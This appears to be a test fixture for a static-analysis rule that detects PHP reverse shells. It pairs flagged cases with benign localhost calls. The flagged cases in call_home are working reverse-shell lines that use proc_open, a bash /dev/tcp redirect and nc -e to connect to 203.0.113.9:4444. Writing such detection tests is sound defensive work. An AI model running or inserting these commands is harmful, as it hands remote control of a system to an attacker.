<?php
function call_home()
{
    $socket = fsockopen("203.0.113.9", 4444);
    // ruleid: php-reverse-shell
    proc_open("/bin/sh -i", [0 => $socket, 1 => $socket, 2 => $socket], $pipes);
    // ruleid: php-reverse-shell
    exec("/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'");
    // ruleid: php-reverse-shell
    shell_exec("nc 203.0.113.9 4444 -e /bin/sh");
}

function mail_server()
{
    $socket = fsockopen("localhost", 25);
    // ok: php-reverse-shell
    $process = proc_open(["gzip", "-c"], [1 => ["pipe", "w"]], $pipes);
    // ok: php-reverse-shell
    exec("nc -z localhost 25");
}

function local()
{
    // ok: php-reverse-shell
    $process = proc_open("/bin/sh", [0 => ["pipe", "r"]], $pipes);
}
